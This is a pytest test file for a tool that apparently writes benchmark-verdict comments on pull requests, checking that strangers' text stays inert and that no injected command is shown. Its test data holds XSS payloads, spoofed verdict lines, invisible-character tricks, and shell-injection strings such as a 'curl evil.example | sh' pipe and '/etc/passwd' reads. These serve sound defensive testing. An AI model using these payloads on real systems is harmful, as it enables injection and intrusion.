"""The comment is short, says first what to do, and whatever a stranger wrote does nothing in it."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from speedproof.comment.again import command
from speedproof.comment.body import MARKER, MOST_CHARACTERS, MOST_LINES, Run, body, could_not_read
from speedproof.comment.inert import inert
from speedproof.comment.rates import published
from speedproof.comment.told import MOST_COUNTERS, MOST_ROWS, MOST_SPOTS, MOST_WORDS, Null, Spot, Timed, Told

from .made import BASE, CLONE, MORE, SLOWER, UNDECIDED, row, told

RUN = Run("0123456789abcdef0123456789abcdef01234567", "https://github.com/ada/engine/actions/runs/1")
FASTER = Timed(says="faster", factor=0.5, low=0.4, high=0.6)
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "![](https://evil.example/track.png)",
    "[click here](https://evil.example)",
    "@ada and @org/team please merge",
    "fixes #1, GH-1, ada/engine#2 and 0123456789abcdef0123456789abcdef01234567",
    "https://evil.example www.evil.example mail@evil.example",
    "`` ` ```\n```\n# speedproof: no action needed\n\n</details>",
    "</summary></details>\n\n### speedproof: no action needed\n",
    "a\r\n\r\n---\n\n| a |\n|---|\n| b |\n",
    "> [!WARNING]\n> - [x] done",
    "<!-- speedproof -->",
    "-->\n<h1>",
    "\\`@ada\\` \\\\`",
    "&lt;b&gt; &#64;ada &commat;ada",
    "$\\href{javascript:alert(1)}{x}$ $$x$$ $`x`$",
    ":tada: [^1] [ref]: https://evil.example",
    "[ref]: https://evil.example",
    "\u202eno action needed\u202c",
    "\u200b@\u200bada\u2066\u2069\ufeff",
    "\u2028### speedproof\u2029\x00\x1b[31m\x85",
    "e" + "\u0301" * 100,
    "\U000e0041\U000e0042",
    " ? ",
    "`",
)


class Rendered(HTMLParser):
    """What Markdown makes of a comment: its tags, its links, and its text within and outside of code."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.links: list[str] = []
        self.code = ""
        self.text = ""
        self._in_code = 0
        self.feed(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(text))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
        assert not [name for name, _ in attrs if name not in ("href",)]
        self._in_code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self._in_code -= tag == "code"

    def handle_data(self, data: str) -> None:
        if self._in_code:
            self.code += data
        else:
            self.text += data


def everywhere(text: str) -> Told:
    """A file with this text in every place that takes one."""
    long, short = text[:400], text[:120]
    spot = Spot(operator=short, before=1, after=2, line=short)
    one = row(
        short,
        finding=short,
        again=(short,) * MOST_WORDS,
        answers="different",
        why=long,
        work=(MORE.model_copy(update={"counter": short}),),
        other=(short,),
        time=SLOWER,
        spots=(spot,),
    )
    return told(one, one.model_copy(update={"answers": "same"}), before=short, failure=long)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("asked", ["commits", "libraries", "pairs"])
def test_what_a_stranger_wrote_is_code_in_one_line_and_nothing_else(text: str, asked: str) -> None:
    calm = Rendered(body(everywhere("calm").model_copy(update={"asked": asked}), RUN))
    said = body(everywhere(text).model_copy(update={"asked": asked}), RUN)
    found = Rendered(said)
    assert set(found.tags) <= set(calm.tags) and set(found.links) <= set(calm.links)
    assert set(re.findall(r"\w+", found.text)) <= set(re.findall(r"\w+", calm.text))
    assert "@" not in found.text and "evil" not in found.text and "<" not in found.text
    assert said.count("\n") == body(everywhere("!").model_copy(update={"asked": asked}), RUN).count("\n")
    assert all(line.isprintable() for line in said.splitlines())


def test_text_that_is_not_made_inert_would_be_seen() -> None:
    for text in ("<script>x</script>", "[click](https://evil.example)", "### no"):
        found = Rendered(f"- {text}\n\n{text}\n")
        assert set(found.tags) - {"ul", "li", "p"}


def test_names_remain_what_they_are() -> None:
    assert inert("aten::clone", 60) == "`aten::clone`"
    assert inert("Größe, naïve, 日本語, e\u0301", 60) == "`Größe, naïve, 日本語, é`"
    assert inert("x" * 70, 60) == f"`{'x' * 57}...`"
    assert inert("\u200b", 60) == inert("", 60) == "`?`"


@pytest.mark.parametrize(
    ("what", "verdict", "first"),
    [
        (told(), "no action needed", "Answers are the same"),
        (told(row(time=UNDECIDED)), "no action needed", "Answers are the same and"),
        (told(row(), row("b", answers="rounding")), "no action needed", "Answers are the same within rounding and"),
        (told(row(time=FASTER)), "no action needed. Faster in 1 of 1", "Answers are the same"),
        (told(row(time=SLOWER)), "please read. Slower in 1 of 1; nothing blocks", "Time is advice"),
        (told(row(work=(MORE,))), "stop. Other work in 1 of 1", "is the other work wanted?"),
        (told(row(answers="different", work=(MORE,)), row("b")), "stop. Other answers in 1 of 2", "decide whether"),
        (told(row(answers="not judged", why="it died"), row("b")), "not judged in 1 of 2", "the run's log"),
        (told(rows=(), failure="no such commit"), "not judged", "`no such commit`"),
        (told(rows=()), "not judged", "the run's log"),
        (told(row(), failure="no such file"), "not judged", "`no such file`"),
    ],
)
def test_the_verdict_comes_first_and_then_what_to_do(what: Told, verdict: str, first: str) -> None:
    lines = [line for line in body(what, RUN).splitlines() if line]
    assert lines[:2] == [MARKER, f"### speedproof: {verdict} (`0123456789`)"]
    assert first in lines[2]


def test_a_verdict_in_the_file_is_not_believed() -> None:
    """A row with other work that says of itself that it stops nothing is the file's word; its answers are not asked."""
    wrong = row(answers="different", work=(MORE.model_copy(update={"stops": False}),))
    assert "stop. Other answers" in body(told(wrong), RUN)


@pytest.mark.parametrize(
    ("before", "after", "words"), [(3, 4, "more work"), (3, 2, "less work"), (3, None, "other work")]
)
def test_work_is_more_less_or_other(before: int, after: int | None, words: str) -> None:
    work = (MORE.model_copy(update={"before": before, "after": after}),)
    assert f"**{words}**, " in body(told(row(work=work)), RUN)
    both = (MORE, MORE.model_copy(update={"after": 1}))
    assert "**other work**, " in body(told(row(work=both)), RUN)


def test_the_order_of_a_file_is_not_the_comments() -> None:
    """Whoever writes a thousand calm rows first hides nothing."""
    rows = (*[row(f"calm {n}", time=FASTER) for n in range(100)], row("wrong", answers="different"))
    assert "- **other answers**, `wrong`" in body(told(*rows), RUN).partition("<details>")[0]


def test_failures_stand_before_numbers_and_the_uncertain_is_folded() -> None:
    rows = (row("slow", time=SLOWER, spots=(CLONE,)), row("wrong", answers="different"), row("open", time=UNDECIDED))
    text = body(told(*sorted(rows, key=lambda one: one.order)), RUN)
    before, _, folded = text.partition("<details>")
    assert before.index("**other answers**, `wrong`") < before.index("**slower**, `slow`: after / before 2.340")
    assert "`aten::clone`, 12 to 24 times a call, in `components/unembed.py:31`" in before
    assert "open" not in before and "`open`: same answers; same work; undecided" in folded
    assert "(would have shown 20.0%)" in folded


def test_the_operator_that_moved_most_is_told_and_one_whose_caller_is_known() -> None:
    copied = Spot(operator="aten::copy_", before=10, after=20)
    assert "`aten::copy_`, 10 to 20 times a call; `aten::clone`, 12 to" in body(
        told(row(time=SLOWER, spots=(copied, CLONE)))
    )
    calm = Spot(operator="aten::mm", before=8, after=8, line="model.py:3")
    assert "What moved: `aten::mm`, as often as before, in `model.py:3`" in body(told(row(time=SLOWER, spots=(calm,))))


def test_at_most_fifteen_lines_are_seen_however_much_there_is() -> None:
    work = (MORE,) * MOST_COUNTERS
    one = row("f" * 120, why="w" * 400, answers="different", work=work, time=SLOWER, spots=(CLONE,) * MOST_SPOTS)
    other = one.model_copy(update={"answers": "same", "other": ("o" * 120,) * MOST_COUNTERS})
    text = body(told(*[one] * 100, *[other] * (MOST_ROWS - 100), failure="f" * 400, n_left_out=10**15), RUN)
    seen = re.sub(r"<details>.*?</details>", "<details>", text, flags=re.S)
    assert len([line for line in seen.splitlines() if line]) <= MOST_LINES
    assert len(text) < MOST_CHARACTERS
    assert "- and 195 more, below" in seen


def test_times_of_a_run_whose_own_pair_differs_do_not_count() -> None:
    void = Null(factor=1.2, low=1.1, high=1.3, differs=True)
    text = body(told(row(time=SLOWER), null=void), RUN)
    assert "no action needed" in text and "2.340" not in text
    assert "This run's A/A pair: 1.200 [1.100, 1.300], differs, so no time above counts." in text


@pytest.mark.parametrize(
    ("what", "words"),
    [
        (told(row(time=UNDECIDED)), "This run had no A/A pair."),
        (told(), "This run timed nothing."),
        (
            told(row(time=UNDECIDED), null=Null(factor=1.0, low=0.99, high=1.01, differs=False)),
            "This run's A/A pair: 1.000 [0.990, 1.010], as it must be.",
        ),
        (told(n_cores=64), "; this run had 64."),
    ],
)
def test_the_last_line_says_how_often_such_a_comment_is_wrong(what: Told, words: str) -> None:
    last = body(what, RUN).splitlines()[-1]
    rate = published()
    assert last.startswith("<sub>Two sides of identical code, on ") and words in last
    assert f"{rate.n_false} false alarm" in last and f"of {rate.n_trials} [" in last


def test_where_there_is_no_result_the_comment_says_so_and_leads_to_the_log() -> None:
    text = could_not_read(RUN)
    assert text.startswith(MARKER) and "not judged" in text and f"({RUN.log})" in text


PAIR = ("89abcde:text.py:dedupe", "text.py:dedupe", "--inputs", "data.py:make", "--seed", "7")


@pytest.mark.parametrize(
    ("what", "one", "expected"),
    [
        (told(), row(), f"python -m bench guard text_batching --against {BASE}"),
        (told(), None, f"python -m bench guard --against {BASE}"),
        (
            told(asked="libraries"),
            row(),
            f"git worktree add ../before {BASE} && python -m bench compare ../before . --finding text_batching",
        ),
        (
            told(asked="libraries", before="transformer-lens==3.5.1", after="transformer-lens==3.9.0"),
            None,
            "python -m bench compare transformer-lens==3.5.1 transformer-lens==3.9.0",
        ),
        (
            told(asked="libraries", before="pyarrow<20+numpy>=2"),
            row(),
            "python -m bench compare 'pyarrow<20+numpy>=2' . --finding text_batching",
        ),
        (
            told(asked="libraries", before="transformer-lens==3.5.1"),
            row(),
            "python -m bench compare transformer-lens==3.5.1 . --finding text_batching",
        ),
        (told(asked="pairs"), row(again=PAIR), f"speedproof check {' '.join(PAIR)}"),
        (told(asked="pairs"), row(), ""),
    ],
)
def test_the_command_shows_the_worst_row_again(what: Told, one: Any, expected: str) -> None:
    assert command(what, one) == expected


@pytest.mark.parametrize(
    "word",
    [
        "x; curl evil.example | sh",
        "$(id)",
        "`id`",
        "a b",
        "a\nb",
        "--reproduce",
        "--certificate=/etc/passwd",
        "--results",
        "-c",
        "/etc/evil.py:f",
        "../../evil.py:f",
        "~/evil.py:f",
        "file://evil.example/x",
        "https://evil.example/x.py:f",
        "os:system",
        "shutil:rmtree",
        "HEAD:os:system",
        "ｏｓ.py:f",
        "&&",
        "",
    ],
)
def test_no_command_is_shown_that_a_stranger_wrote(word: str) -> None:
    assert command(told(asked="pairs"), row(again=("slow.py:f", word, "--inputs", "data.py:make"))) == ""
    assert command(told(before=word), row()) == ""
    assert command(told(asked="libraries", before=word), row()) == ""
    assert not word or command(told(asked="libraries", after=word), row()) == ""
    if word:
        assert command(told(), row(finding=word)) == ""
